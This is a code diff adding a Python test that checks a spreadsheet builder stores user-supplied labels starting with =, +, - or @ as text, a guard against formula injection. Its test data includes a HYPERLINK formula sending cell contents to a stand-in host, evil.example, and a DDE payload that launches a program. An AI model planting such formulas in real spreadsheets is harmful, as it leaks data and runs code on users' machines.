@@ -1,4 +1,5 @@
 import io
+import zipfile
 from datetime import date
 
 from openpyxl import load_workbook
@@ -62,3 +63,16 @@ def test_workbook_holds_table_and_chart():
     assert len(sheet._charts) == 1
     assert sheet._charts[0].tagname == "lineChart"
     assert len(sheet._charts[0].series) == 2, "the Total column is not charted"
+
+
+def test_workbook_writes_formula_like_texts_as_text():
+    # labels come from user data (customer, product names): a leading =, +, - or @ must stay text
+    labels = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+41 21 555 01 01", "-cmd|' /C calc'!A0", "@SUM(B4)"]
+    content = build_workbook("=Title", ["Customer", "Total"], [[label, 10.0] for label in labels], ["Total", 40.0])
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert [sheet.cell(row=4 + index, column=1).value for index in range(4)] == labels
+    assert all(sheet.cell(row=4 + index, column=1).data_type == "s" for index in range(4))
+    assert sheet["A1"].value == "=Title" and sheet["A1"].data_type == "s"
+    assert sheet["B4"].value == 10.0
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
